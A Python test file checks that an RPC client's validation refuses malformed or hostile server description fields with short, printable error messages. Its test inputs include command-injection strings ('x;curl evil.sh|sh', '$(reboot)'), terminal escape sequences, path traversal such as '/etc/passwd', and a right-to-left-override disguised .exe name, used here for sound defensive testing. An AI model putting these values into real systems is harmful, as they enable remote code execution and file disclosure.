"""What a server's description may contain, and each thing that it may not, refused in one sentence."""

import math
from collections.abc import Callable

import pytest

from common.bundle import BundleFile, make_manifest
from common.protocol.errors import PeerError
from common.rpc import convert
from common.rpc.description import ServerDescription
from common.rpc.description_checks import MOST_BUNDLES, check_description
from common.rpc.generated.outrider.v1 import outrider_pb2 as pb
from common.weight_only.modes import QUANTISED

BUNDLE = make_manifest("d", "lookup", "f", [BundleFile("tokenizer/tokenizer.json", 3, "0" * 64)])
SAID = ServerDescription(1, "0.1", "model", "f", 300, 2048, 512, (0,), ("greedy",), ("eager",), (BUNDLE,))

Change = Callable[[pb.DescribeReply], object]


def put(**fields: object) -> Change:
    """Sets fields of the description."""

    def change(frame: pb.DescribeReply) -> None:
        for name in fields:
            frame.ClearField(name)
        frame.MergeFrom(pb.DescribeReply(**fields))

    return change


def file(**fields: object) -> Change:
    """Sets fields of the one file of the one bundle."""

    def change(frame: pb.DescribeReply) -> None:
        for name, value in fields.items():
            setattr(frame.bundles[0].files[0], name, value)

    return change


def more(**lists: list[object]) -> Change:
    """Appends to lists of the one bundle."""
    return lambda frame: frame.bundles[0].MergeFrom(pb.Bundle(**lists))


ESCAPE = "\x1b]0;owned\x07"


@pytest.mark.parametrize(
    ("change", "sentence"),
    [
        *[(put(**{name: ""}), f"a {name} ''; a name has 1 to 255") for name in ("release", "fingerprint")],
        *[(put(**{name: ESCAPE}), "']0;owned'") for name in ("release", "model", "fingerprint")],
        (put(release="r" * 256), "1 to 255 printable characters"),
        *[(put(model=name), "which nobody could type") for name in ("", "m" * 65, "-m", "x;curl evil.sh|sh", "a b")],
        (put(models=["a", "$(reboot)"]), "a model '$(reboot)', which nobody could type"),
        (put(vocab_size=0), "a vocabulary of 0, which cannot be"),
        (put(vocab_size=(1 << 22) + 1), "a vocabulary of 4194305"),
        (put(context=1 << 31), "a context of 2147483648"),
        (put(max_nodes=1 << 17), "a tree of 131072"),
        (put(end_tokens=[1] * 1025), "1025 end tokens"),
        (put(rules=["a"] * 65), "65 rules"),
        (put(idle_policies=["eager", "\n"]), "one of its idle policies ''"),
        (put(models=["a"] * 65), "65 models"),
        (put(models=["a", ESCAPE]), "a model ']0;owned'"),
        (put(models=["a", "b", "a"]), "two of the server's models have the same name"),
        *[(put(load=load), f"a load of {load}, which cannot be") for load in (-0.5, math.inf, math.nan)],
        (put(replicas=["a:1"] * 257), "257 replicas"),
        (put(replicas=["a:1", "b:1", "a:1"]), "two of the server's replicas"),
        *[(put(replicas=[name]), f"a replica at '{name}', which is no address") for name in ("a", "a:0", "::1:80")],
        (put(replicas=[ESCAPE]), "a replica ']0;owned'"),
        (put(numerics=ESCAPE), "what it computes in ']0;owned'"),
        (put(bundles=[pb.Bundle()] * 65), "65 bundles"),
        (put(quantised=[pb.Bundle()] * 129), "129 quantised bundles"),
        (lambda frame: frame.bundles.append(frame.bundles[0]), "two of the server's bundles"),
        (lambda frame: setattr(frame.bundles[0], "draft", "\u202egnp.exe"), "a draft 'gnp.exe'"),
        (lambda frame: setattr(frame.bundles[0], "kind", "k" * 300), "a kind of draft 'kkkk"),
        (more(files=[pb.BundleFile(path="a")] * 1024), "1025 files"),
        (lambda frame: frame.bundles[0].files.append(frame.bundles[0].files[0]), "two of the server's files"),
        *[
            (file(path=path), "would lie outside it")
            for path in ("../x", "/etc/passwd", "a/../../x", "", "a\\b", "C:x", "./a", "bundle.json", "a\0b", "a//b")
        ],
        (file(path=ESCAPE), "a file ']0;owned'"),
        (file(path="a" * 256), "a file 'aaaa"),
        (file(path="model.safetensors.part"), "as no whole file is named"),
        (file(size=1 << 63), "a size or a checksum that cannot be"),
        (file(sha256="0" * 63), "a size or a checksum that cannot be"),
        (file(sha256="G" * 64), "a size or a checksum that cannot be"),
    ],
)
def test_what_cannot_be_is_refused(change: Change, sentence: str) -> None:
    frame = convert.description_frame(SAID)
    assert convert.description(frame) == SAID
    change(frame)
    with pytest.raises(PeerError) as refused:
        convert.description(frame)
    assert sentence in str(refused.value)
    assert str(refused.value).isprintable()
    assert len(str(refused.value)) < 500


def test_as_many_drafts_as_are_allowed_may_be_offered_in_every_weights_mode() -> None:
    frame = convert.description_frame(SAID)
    for count in range(MOST_BUNDLES):
        for mode in QUANTISED:
            bundle = frame.quantised.add()
            bundle.CopyFrom(frame.bundles[0])
            bundle.draft, bundle.weights = f"draft-{count}", mode
    check_description(frame)
